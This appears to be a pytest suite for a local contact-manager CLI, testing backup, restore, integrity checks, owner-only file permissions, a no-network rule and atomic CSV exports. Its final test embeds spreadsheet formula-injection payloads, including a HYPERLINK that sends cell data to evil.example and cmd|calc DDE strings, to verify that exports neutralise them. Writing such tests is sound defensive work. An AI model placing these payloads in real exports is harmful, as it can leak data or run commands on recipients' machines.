"""backup, restore, check (guarantee 4); privacy (8); atomic, formula-safe exports (9)."""
from __future__ import annotations

import csv
import io
import json
import os
import shutil
import socket
import sqlite3
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from crm.store.migrations import LATEST_VERSION

V1_DB = Path(__file__).resolve().parent / "data" / "crm-v1.db"

try:
    import crm.formats.vcard  # noqa: F401  (the vCard module is written alongside; its exports are checked once it exists)

    HAVE_VCARD = True
except ImportError:
    HAVE_VCARD = False


# ---- helpers -------------------------------------------------------------------------------------


def add(run, name, *args) -> int:
    result = run("add", name, *args)
    assert result.exit_code == 0, result.output
    return int(result.stdout.strip())


def names(path: Path) -> list[str]:
    conn = sqlite3.connect(path)
    try:
        return [n for (n,) in conn.execute("SELECT display_name FROM contact ORDER BY id")]
    finally:
        conn.close()


def integrity(path: Path) -> str:
    conn = sqlite3.connect(path)
    try:
        return conn.execute("PRAGMA integrity_check").fetchone()[0]
    finally:
        conn.close()


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith((".tmp", ".tmp-journal", ".tmp-wal")))


def raw_sql(path: Path, *statements: str) -> None:
    """Write behind crm's back (foreign keys off), as another tool or an old bug might have."""
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA foreign_keys = OFF")
    for statement in statements:
        conn.execute(statement)
    conn.commit()
    conn.close()


def break_an_index(path: Path) -> None:
    """Make `PRAGMA integrity_check` fail while the file still opens: the index no longer
    matches its definition."""
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA writable_schema = 1")
    conn.execute(
        "UPDATE sqlite_master SET sql = 'CREATE INDEX contact_name_key ON contact (display_name)'"
        " WHERE name = 'contact_name_key'"
    )
    conn.commit()
    conn.close()


def smash_a_page(path: Path) -> None:
    """Overwrite a whole b-tree page with junk: 'database disk image is malformed'."""
    conn = sqlite3.connect(path)
    root = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = 'contact_name_key'").fetchone()[0]
    size = conn.execute("PRAGMA page_size").fetchone()[0]
    conn.close()
    with open(path, "r+b") as handle:
        handle.seek((root - 1) * size)
        handle.write(b"\x07" * size)


def build_db(run):
    add(run, "Ada Lovelace", "--email", "ada@example.com", "--interest", "chess")
    add(run, "Grace Hopper", "--org", "Navy")


@pytest.fixture
def db(copy_of) -> Path:
    return copy_of(build_db)


# ---- backup --------------------------------------------------------------------------------------


def test_backup_is_a_private_self_contained_copy(db, run, tmp_path):
    target = tmp_path / "backups" / "crm-backup.db"
    target.parent.mkdir()
    result = run("backup", target, "--json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert report["path"] == str(target) and report["contacts"] == 2
    assert report["schema_version"] == LATEST_VERSION and report["integrity_errors"] == []
    assert mode(target) == 0o600
    assert names(target) == ["Ada Lovelace", "Grace Hopper"]
    assert integrity(target) == "ok"
    conn = sqlite3.connect(target)
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "delete"  # no -wal needed beside it
    conn.close()
    assert sorted(p.name for p in target.parent.iterdir()) == ["crm-backup.db"]


def test_backup_into_a_folder_gets_a_dated_name(db, run, tmp_path):
    folder = tmp_path / "b"
    folder.mkdir()
    assert run("backup", folder).exit_code == 0
    (made,) = folder.iterdir()
    assert made.name.startswith("crm-") and made.suffix == ".db" and ":" not in made.name
    assert mode(made) == 0o600


def test_backup_replaces_an_older_backup_but_never_an_unrelated_file(db, run, tmp_path):
    target = tmp_path / "nightly.db"
    assert run("backup", target).exit_code == 0
    add(run, "Katherine Johnson")
    assert run("backup", target).exit_code == 0
    assert names(target)[-1] == "Katherine Johnson"

    precious = tmp_path / "thesis.txt"
    precious.write_text("years of work")
    result = run("backup", precious)
    assert result.exit_code == 1 and "not a crm database; not overwriting" in result.stderr
    assert precious.read_text() == "years of work"
    assert run("backup", db).exit_code == 1  # the database itself
    assert run("backup", tmp_path / "missing-folder" / "x.db").exit_code == 1
    assert leftovers(tmp_path) == []


def test_backup_without_a_database_says_so_and_creates_nothing(run, private_database, tmp_path):
    result = run("backup", tmp_path / "b.db")
    assert result.exit_code == 1 and "no database at" in result.stderr
    assert not private_database.exists() and not (tmp_path / "b.db").exists()


def test_backup_of_a_damaged_database_keeps_the_copy_and_warns(db, run, tmp_path):
    break_an_index(db)
    target = tmp_path / "salvage.db"
    result = run("backup", target)
    assert result.exit_code == 1
    assert "integrity check" in result.stderr and result.stderr.count("\n") == 1
    assert target.exists() and mode(target) == 0o600


WRITER = """
import os, sqlite3, sys, time
path, stop = sys.argv[1], sys.argv[2]
conn = sqlite3.connect(path, timeout=30, isolation_level=None)
conn.execute("PRAGMA busy_timeout = 30000")
n = 0
while not os.path.exists(stop):
    conn.execute("BEGIN IMMEDIATE")
    for i in range(10):
        n += 1
        conn.execute("INSERT INTO contact (display_name, name_key, created_at, updated_at)"
                     " VALUES (?, ?, 'x', 'x')", (f"W{n}", f"w{n}"))
    conn.execute("COMMIT")
    time.sleep(0.001)  # a busy user, not a tight loop that would starve every other writer
print(n)
"""


def test_backup_is_consistent_while_another_process_writes(db, run, tmp_path):
    """Every backup taken mid-stream holds whole transactions only (10 rows each) and passes
    the integrity check; the writer is never disturbed."""
    stop = tmp_path / "stop"
    writer = subprocess.Popen([sys.executable, "-c", WRITER, str(db), str(stop)], stdout=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 10
        while len(names(db)) < 200 and time.monotonic() < deadline:
            time.sleep(0.01)
        seen = []
        for i in range(5):
            target = tmp_path / f"b{i}.db"
            result = run("backup", target)
            assert result.exit_code == 0, result.output
            assert integrity(target) == "ok"
            written = [n for n in names(target) if n.startswith("W")]
            assert len(written) % 10 == 0, len(written)
            seen.append(len(written))
    finally:
        stop.touch()
        out, _ = writer.communicate(timeout=30)
    assert writer.returncode == 0
    assert seen == sorted(seen) and seen[-1] > 0
    assert len([n for n in names(db) if n.startswith("W")]) == int(out)


# ---- restore -------------------------------------------------------------------------------------


def test_restore_replaces_the_database_and_keeps_the_old_one(db, run, tmp_path):
    target = tmp_path / "b.db"
    assert run("backup", target).exit_code == 0
    add(run, "Added After The Backup")
    result = run("restore", target, "--json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    kept = Path(report["kept"])
    assert report["contacts"] == 2 and report["schema_version"] == LATEST_VERSION
    assert kept.parent == db.parent and kept.name.startswith("crm.db.pre-restore-") and kept.suffix == ".bak"
    assert mode(kept) == 0o600 and integrity(kept) == "ok"
    assert names(kept)[-1] == "Added After The Backup"
    assert [r["name"] for r in json.loads(run("list", "--json").stdout)] == ["Ada Lovelace", "Grace Hopper"]
    assert names(target) == ["Ada Lovelace", "Grace Hopper"]  # the backup itself is untouched
    assert leftovers(db.parent) == []
    # Restoring twice in the same second keeps both earlier databases.
    assert run("restore", target).exit_code == 0
    assert len(list(db.parent.glob("crm.db.pre-restore-*.bak"))) == 2


@pytest.mark.parametrize("kind", ["text", "empty", "other-sqlite", "no-version", "damaged", "malformed",
                                  "newer", "missing-tables", "missing", "folder", "itself"])
def test_restore_refuses_what_is_not_a_sound_crm_database(db, run, tmp_path, kind):
    source = tmp_path / "candidate.db"
    if kind == "text":
        source.write_text("BEGIN:VCARD\nFN:not a database\nEND:VCARD\n")
    elif kind == "empty":
        source.touch()
    elif kind == "other-sqlite":
        raw_sql(source, "CREATE TABLE songs (title TEXT)", "INSERT INTO songs VALUES ('x')")
    elif kind == "no-version":
        raw_sql(source, "CREATE TABLE schema_migration (version INTEGER PRIMARY KEY, name TEXT, applied_at TEXT)")
    elif kind in ("damaged", "malformed", "newer", "missing-tables"):
        assert run("backup", source).exit_code == 0
        if kind == "damaged":
            break_an_index(source)
        elif kind == "malformed":
            smash_a_page(source)
        elif kind == "newer":
            raw_sql(source, "INSERT INTO schema_migration VALUES (999, 'm999_future', '2030-01-01')")
        else:
            raw_sql(source, "DROP TABLE touchpoint")
    elif kind == "folder":
        source.mkdir()
    elif kind == "itself":
        source = db
    before = names(db)
    result = run("restore", source)
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1, result.stderr
    assert names(db) == before and integrity(db) == "ok"
    assert list(db.parent.glob("*.bak")) == [] and leftovers(db.parent) == [] and leftovers(tmp_path) == []
    expected = {
        "text": "not an SQLite file", "empty": "empty", "other-sqlite": "without crm's schema",
        "no-version": "no schema version", "damaged": "integrity check", "malformed": "integrity check",
        "newer": "newer than this crm", "missing-tables": "lacks the table(s) touchpoint", "missing": "no such file",
        "folder": "a folder, not a regular file", "itself": "the database itself",
    }[kind]
    assert expected in result.stderr


def test_restoring_an_old_schema_migrates_it_on_next_open(db, run):
    result = run("restore", V1_DB)
    assert result.exit_code == 0, result.output
    assert "Restored 6 contact(s)" in result.stdout
    assert len(json.loads(run("list", "--json").stdout)) == 6  # next open: migrated to the latest
    conn = sqlite3.connect(db)
    assert conn.execute("SELECT MAX(version) FROM schema_migration").fetchone()[0] == LATEST_VERSION
    conn.close()
    copy = db.with_name("crm.db.v1.bak")
    assert copy.exists() and mode(copy) == 0o600
    assert names(V1_DB) == names(db)


def test_restore_without_a_current_database(run, private_database, tmp_path):
    source = tmp_path / "elsewhere.db"
    shutil.copyfile(V1_DB, source)
    private_database.parent.mkdir(exist_ok=True)
    result = run("restore", source)
    assert result.exit_code == 0, result.output
    assert "kept" not in result.stderr
    assert mode(private_database) == 0o600
    assert run("check").exit_code == 0


def test_restore_over_a_garbage_database_moves_it_aside(db, run, tmp_path):
    source = tmp_path / "good.db"
    assert run("backup", source).exit_code == 0
    db.write_bytes(b"SQLite format 3\x00" + b"\xde\xad" * 3000)
    assert run("list").exit_code == 1  # unusable as it is
    result = run("restore", source)
    assert result.exit_code == 0, result.output
    (kept,) = db.parent.glob("crm.db.pre-restore-*.bak")
    assert kept.read_bytes().startswith(b"SQLite format 3\x00\xde\xad") and mode(kept) == 0o600
    assert names(db) == ["Ada Lovelace", "Grace Hopper"]


def test_restore_reaches_connections_already_open(db, run, tmp_path):
    """The restored pages are written through SQLite, so another process's open connection
    sees the restored database (a file rename would leave it writing to the old one)."""
    source = tmp_path / "b.db"
    assert run("backup", source).exit_code == 0
    add(run, "Only In The Live Database")
    other = sqlite3.connect(db, isolation_level=None)
    assert other.execute("SELECT COUNT(*) FROM contact").fetchone()[0] == 3
    assert run("restore", source).exit_code == 0
    assert other.execute("SELECT COUNT(*) FROM contact").fetchone()[0] == 2
    other.execute("INSERT INTO contact (display_name, name_key, created_at, updated_at) VALUES ('X', 'x', 'x', 'x')")
    other.close()
    assert names(db) == ["Ada Lovelace", "Grace Hopper", "X"]


def test_restore_of_a_backup_with_another_page_size(db, run, tmp_path):
    """The live database is in WAL mode, which cannot change page size: the copy adapts."""
    source = tmp_path / "small-pages.db"
    shutil.copyfile(V1_DB, source)
    conn = sqlite3.connect(source, isolation_level=None)
    conn.execute("PRAGMA page_size = 1024")
    conn.execute("VACUUM")
    assert conn.execute("PRAGMA page_size").fetchone()[0] == 1024
    conn.close()
    result = run("restore", source)
    assert result.exit_code == 0, result.output
    assert names(db) == names(V1_DB) and integrity(db) == "ok"
    assert run("check").exit_code == 0


def test_restore_while_another_process_writes(db, run, tmp_path):
    """The writer's transactions land wholly before the restore (and are kept in the saved copy)
    or wholly after it (on top of the restored data); the result is sound either way."""
    source = tmp_path / "b.db"
    assert run("backup", source).exit_code == 0
    stop = tmp_path / "stop"
    writer = subprocess.Popen([sys.executable, "-c", WRITER, str(db), str(stop)], stdout=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 10
        while len(names(db)) < 100 and time.monotonic() < deadline:
            time.sleep(0.01)
        result = run("restore", source)
        assert result.exit_code == 0, result.output
        time.sleep(0.2)
    finally:
        stop.touch()
        writer.communicate(timeout=30)
    assert writer.returncode == 0
    assert integrity(db) == "ok"
    after = names(db)
    assert after[:2] == ["Ada Lovelace", "Grace Hopper"]
    assert len(after[2:]) % 10 == 0 and all(n.startswith("W") for n in after[2:])
    (kept,) = db.parent.glob("crm.db.pre-restore-*.bak")
    assert integrity(kept) == "ok" and len(names(kept)) >= 102 and (len(names(kept)) - 2) % 10 == 0


# ---- check ---------------------------------------------------------------------------------------


def test_check_a_healthy_database(db, run):
    result = run("check")
    assert result.exit_code == 0, result.output
    assert "No problems found" in result.stdout
    report = json.loads(run("check", "--json").stdout)
    assert list(report) == ["database", "ok", "schema_version", "counts", "problems", "repaired"]
    assert report["ok"] is True and report["problems"] == [] and report["schema_version"] == LATEST_VERSION
    assert report["counts"]["contact"] == 2


def test_check_reports_each_inconsistency_in_plain_words(db, run):
    raw_sql(
        db,
        "UPDATE contact SET display_name = '  ' WHERE id = 1",
        "UPDATE contact SET name_key = 'someone else' WHERE id = 2",
        "INSERT INTO contact_method (contact_id, medium, value, norm)"
        " VALUES (2, 'email', 'Grace@Navy.MIL', 'Grace@Navy.MIL')",
        "INSERT INTO touchpoint (contact_id, \"on\", kind, created_at) VALUES (2, '31/12/2025', 'email', 'x')",
        "INSERT INTO touchpoint (contact_id, \"on\", kind, created_at) VALUES (2, '2025-02-30', 'email', 'x')",
        "INSERT INTO touchpoint (contact_id, \"on\", kind, created_at) VALUES (77, '2025-01-01', 'email', 'x')",
        "INSERT INTO application (organisation_id, position, created_at) VALUES (404, 'Engineer', 'x')",
        "INSERT INTO application (organisation_id, position, created_at) VALUES (1, 'Analyst', 'x')",
        "INSERT INTO interview_round (application_id, number, \"on\") VALUES (2, 1, 'next tuesday')",
        "INSERT INTO offer (kind, title, \"on\", created_at) VALUES ('article', 'A read', '2025-13-01', 'x')",
        "UPDATE contact SET bday_month = 2, bday_day = 31 WHERE id = 2",
    )
    result = run("check")
    assert result.exit_code == 1
    text = result.stdout
    for phrase in (
        "contact #1 has no name",
        "contact #2: search key 'someone else' does not match the name 'Grace Hopper'",
        "email 'Grace@Navy.MIL' is stored as 'Grace@Navy.MIL', expected 'grace@navy.mil'",
        "touchpoint #1 (contact #2) is dated '31/12/2025', which is not a date",
        "touchpoint #2 (contact #2) is dated '2025-02-30'",
        "touchpoint #3 refers to contact #77, which does not exist",
        "application #1 ('Engineer') has no organisation (organisation #404 does not exist)",
        "interview round #1 (application #2, round 1) is dated 'next tuesday'",
        "interview round #1 (application #2, round 1) has no interviewers",
        "offer #1 ('A read') is dated '2025-13-01'",
        "birthday None-2-31 is not a date",
    ):
        assert phrase in text, phrase
    report = json.loads(run("check", "--json").stdout)
    assert report["ok"] is False
    assert {p["check"] for p in report["problems"]} == {
        "contact-without-name", "contact-name-key", "method-norm", "touchpoint-bad-date", "foreign-key",
        "application-without-organisation", "round-bad-date", "round-without-interviewers", "offer-bad-date",
        "contact-bad-birthday", "bad-created-at",  # the rows above were made with created_at 'x'
    }
    for problem in report["problems"]:
        assert list(problem) == ["check", "table", "id", "message"]
    assert sum(p["check"] == "application-without-organisation" for p in report["problems"]) == 1  # not twice


def test_check_on_a_damaged_file_reports_and_changes_nothing(db, run):
    break_an_index(db)
    before = db.read_bytes()
    result = run("check", "--json")
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    assert report["problems"][0]["check"] == "integrity"
    assert "missing from index contact_name_key" in report["problems"][0]["message"]
    assert db.read_bytes() == before
    smash_a_page(db)
    result = run("check")
    assert result.exit_code == 1 and "malformed" in result.stdout and "Traceback" not in result.output


def test_check_says_plainly_when_there_is_no_database(run, private_database):
    result = run("check")
    assert result.exit_code == 1 and result.stderr == f"Error: no database at {private_database}\n"
    assert not private_database.exists()


def test_check_lists_many_problems_without_flooding(db, run):
    raw_sql(db, *[
        f"INSERT INTO touchpoint (contact_id, \"on\", kind, created_at) VALUES (1, 'bad{i}', 'email', '2025-01-01T09:00:00')"
        for i in range(30)
    ])
    result = run("check")
    assert result.exit_code == 1
    assert "... and 10 more (crm check --json lists them all)" in result.stdout
    assert len(json.loads(run("check", "--json").stdout)["problems"]) == 30


# ---- privacy -------------------------------------------------------------------------------------


@pytest.fixture
def permissive_umask():
    """Files must be private because crm makes them so, not because the umask happens to be strict."""
    old = os.umask(0)
    yield
    os.umask(old)


def test_every_file_crm_creates_is_readable_by_the_owner_only(run, private_database, tmp_path, permissive_umask,
                                                              monkeypatch):
    add(run, "Ada Lovelace", "--email", "ada@example.com")
    conn = sqlite3.connect(private_database)  # hold the database open so -wal and -shm exist
    conn.execute("SELECT 1 FROM contact").fetchall()
    add(run, "Grace Hopper")
    for suffix in ("", "-wal", "-shm"):
        sidecar = Path(f"{private_database}{suffix}")
        assert sidecar.exists() and mode(sidecar) == 0o600, suffix
    conn.close()
    monkeypatch.chdir(tmp_path)
    made = []
    for fmt in ("vcard", "json", "csv") if HAVE_VCARD else ("json", "csv"):
        out = tmp_path / f"out.{fmt}"
        out.write_text("old, world-readable")
        os.chmod(out, 0o644)
        assert run("export", "--format", fmt, "-o", out.name).exit_code == 0
        made.append(out)
    from crm.cli import cli

    if "calendar" in cli.commands:
        assert run("calendar", "-o", "follow-ups.ics").exit_code == 0
        made.append(tmp_path / "follow-ups.ics")
    assert run("backup", "b.db").exit_code == 0
    assert run("restore", "b.db").exit_code == 0
    made += [tmp_path / "b.db", *tmp_path.glob("crm.db.pre-restore-*.bak")]
    fresh = tmp_path / "new" / "deeper" / "crm.db"
    assert run("--db", fresh, "list").exit_code == 0
    made.append(fresh)
    assert mode(fresh.parent) == 0o700
    for path in made:
        assert mode(path) == 0o600, path.name


def test_no_command_touches_the_network(run, private_database, tmp_path, monkeypatch):
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise AssertionError("crm tried to open a network connection")

    class NoSocket(socket.socket):
        def __init__(self, *args, **kwargs):
            refuse(*args)

    monkeypatch.setattr(socket, "socket", NoSocket)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "gethostbyname", refuse)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "google.csv").write_text(
        "Given Name,Family Name,E-mail 1 - Value,Website 1 - Value\n"
        "Linus,Pauling,linus@example.com,https://example.com/linus\n"
    )
    commands = [
        ["add", "Ada Lovelace", "--email", "ada@example.com", "--url", "https://ada.example", "--org", "Acme"],
        ["add", "Ada Byron", "--email", "byron@example.com"],
        ["import", "google.csv"],
        ["list"], ["list", "--json"], ["show", "ada lovelace"], ["edit", "ada lovelace", "--title", "CTO"],
        ["tag", "1", "chess"], ["dupes"], ["export", "--format", "json"], ["export", "--format", "csv", "-o", "c.csv"],
        ["backup", "b.db"], ["check"], ["restore", "b.db"], ["merge", "1", "2", "--yes"],
    ]
    from crm.cli import cli

    optional = [  # commands other modules add; each is exercised once it exists
        ("import", ["import", "cards.vcf"]),
        ("export", ["export", "--format", "vcard", "-o", "out.vcf"]),
        ("log", ["log", "ada lovelace", "thank-you", "--via", "email", "--on", "2026-01-05"]),
        ("history", ["history", "ada lovelace"]),
        ("interview", ["interview", "ada lovelace", "--org", "Acme", "--position", "Engineer", "--on", "2026-01-06"]),
        ("applications", ["applications"]),
        ("outcome", ["outcome", "acme", "rejected", "--on", "2026-01-20"]),
        ("org", ["org", "acme"]),
        ("intros", ["intros"]),
        ("offer", ["offer", "add", "article", "A good read", "--url", "https://example.com/a"]),
        ("offer", ["offer", "list"]),
        ("today", ["today", "--on", "2026-02-01"]),
        ("draft", ["draft", "ada lovelace", "--on", "2026-02-01", "--action", "check-in"]),
        ("review", ["review", "--on", "2026-02-01"]),
        ("calendar", ["calendar", "--on", "2026-02-01", "-o", "follow-ups.ics"]),
        ("cadence", ["cadence", "ada lovelace", "30"]),
        ("snooze", ["snooze", "ada lovelace", "--days", "14"]),
        ("pause", ["pause", "ada lovelace"]),
        ("resume", ["resume", "ada lovelace"]),
    ]
    (tmp_path / "cards.vcf").write_text("BEGIN:VCARD\nVERSION:3.0\nFN:Rosalind Franklin\nEND:VCARD\n")
    for name, args in optional:
        if name in cli.commands and (HAVE_VCARD or not any(a.endswith(".vcf") for a in args)):
            commands.append(args)
    for args in commands:
        result = run(*args)
        assert result.exit_code == 0, (args, result.output)
    assert attempts == []
    # Everything a normal session writes is consistent by crm's own rules.
    result = run("check")
    assert result.exit_code == 0, result.stdout


# ---- atomic exports and formula-safe CSV ---------------------------------------------------------


def test_atomic_write_leaves_the_old_file_when_interrupted(tmp_path):
    from crm.files import atomic_write

    target = tmp_path / "contacts.csv"
    target.write_text("the good old export\n")

    def chunks():
        yield "id,name\r\n"
        yield "1,Ada\r\n"
        raise OSError(28, "No space left on device")

    from crm.errors import DiskFull

    with pytest.raises(DiskFull, match="no space left"):  # the real cause, with its own exit code
        atomic_write(target, chunks())
    assert target.read_text() == "the good old export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["contacts.csv"]


@pytest.mark.parametrize("interruption", [RuntimeError("boom"), KeyboardInterrupt()])
def test_an_interrupted_export_never_replaces_a_good_file(db, run, tmp_path, monkeypatch, interruption):
    import crm.formats.csv_contacts

    monkeypatch.chdir(tmp_path)
    for i in range(5):
        add(run, f"Person {i}")
    assert run("export", "--format", "csv", "-o", "contacts.csv").exit_code == 0
    good = (tmp_path / "contacts.csv").read_bytes()
    real = crm.formats.csv_contacts.write_csv

    def failing(rows):
        for n, chunk in enumerate(real(rows)):
            yield chunk[: len(chunk) // 2]
            raise interruption

    monkeypatch.setattr(crm.formats.csv_contacts, "write_csv", failing)
    add(run, "Not Exported")
    result = CliRunnerNoCatch(run)("export", "--format", "csv", "-o", "contacts.csv")
    assert result.exit_code in (70, 130), result.output
    assert "Traceback" not in result.output
    assert (tmp_path / "contacts.csv").read_bytes() == good
    assert sorted(p.name for p in tmp_path.iterdir() if "contacts" in p.name) == ["contacts.csv"]


def CliRunnerNoCatch(run):
    from click.testing import CliRunner

    from crm.cli import cli

    def invoke(*args):
        return CliRunner().invoke(cli, [str(a) for a in args])

    return invoke


def test_csv_export_neutralises_formulas(db, run, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "org": "+cmd|' /C calc'!A0",
        "title": "-2+3",
        "note": "@SUM(1+1)*cmd|' /C calc'!A0",
        "interest": "=1+1",
    }
    add(run, hostile["name"], "--org", hostile["org"], "--title", hostile["title"], "--note", hostile["note"],
        "--interest", hostile["interest"], "--phone", "+44 20 7946 0000")
    assert run("export", "--format", "csv", "-o", "out.csv").exit_code == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8"), newline="")))
    header, cells = rows[0], [c for row in rows[1:] for c in row]
    assert "name" in header
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    for value in hostile.values():
        assert "'" + value in cells
    assert "'+44 20 7946 0000" in cells
